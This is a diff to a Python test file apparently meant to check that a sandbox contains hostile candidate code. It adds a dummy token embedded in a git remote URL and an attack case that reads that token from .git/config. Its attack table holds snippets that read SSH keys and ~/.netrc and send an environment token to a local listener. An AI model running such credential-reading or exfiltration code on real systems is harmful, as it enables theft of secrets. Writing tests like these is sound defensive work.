@@ -34,7 +34,8 @@ ENV_SECRET = "tok-env-secret-7c1e9a"
 PG_SECRET = "pg-secret-91b2"
 NETRC_SECRET = "netrc-secret-44d0"
 SSH_SECRET = "ssh-key-material-5f3a"
-SECRETS = (ENV_SECRET, PG_SECRET, NETRC_SECRET, SSH_SECRET)
+GIT_SECRET = "ghp_Ua7sK2pQ9vX4mN8rT1wZ6yB3cE5hJ0dL"  # in the repository's remote URL
+SECRETS = (ENV_SECRET, PG_SECRET, NETRC_SECRET, SSH_SECRET, GIT_SECRET)
 MARKER = f"caretaker-attack-{uuid.uuid4().hex[:12]}"
 #: The attack run's bound: over ten times what it needs on a quiet machine (45 s at a load of 10
 #: on two cores), a third of what its 68 verification runs take if each waits out its 20 s.
@@ -71,7 +72,10 @@ ATTACKS: dict[str, str] = {
     "write to /tmp": "open(os.path.join('/tmp', MARKER), 'w').write('x')\nhit = True",
     "read ~/.ssh/id_rsa": "hit = 'ssh-key' in open(os.path.join(home, '.ssh', 'id_rsa')).read()",
     "read ~/.netrc": "hit = 'netrc' in open(os.path.join(home, '.netrc')).read()",
-    "read the repository": "hit = bool(open(os.path.join(here, '.git', 'HEAD')).read())",
+    # The repository reads (a project may take its version from git at import), its config
+    # as a copy without credentials.
+    "read the token in the repository's config": "hit = 'ghp_' in "
+    "open(os.path.join(here, '.git', 'config')).read()",
     "send a secret to the listener": "s = socket.create_connection(('127.0.0.1', PORT), 2)\n"
     "s.sendall(os.environ.get('SERVICE_TOKEN', 'none').encode())\ns.close()\nhit = True",
     "POST to the listener": "import urllib.request\n"
@@ -247,6 +251,8 @@ def test_hostile_candidates_change_nothing_leak_nothing_and_heal_nothing(
     (pytester.path / "data.txt").write_text("keep me\n")
     git = ["git", "-c", "user.name=t", "-c", "user.email=t@t"]
     subprocess.run([*git, "init", "-q", "-b", "main"], cwd=pytester.path, check=True)
+    remote = f"https://me:{GIT_SECRET}@example.invalid/project.git"
+    subprocess.run([*git, "remote", "add", "origin", remote], cwd=pytester.path, check=True)
     subprocess.run([*git, "add", "-A"], cwd=pytester.path, check=True)
     subprocess.run([*git, "commit", "-qm", "start"], cwd=pytester.path, check=True)
 
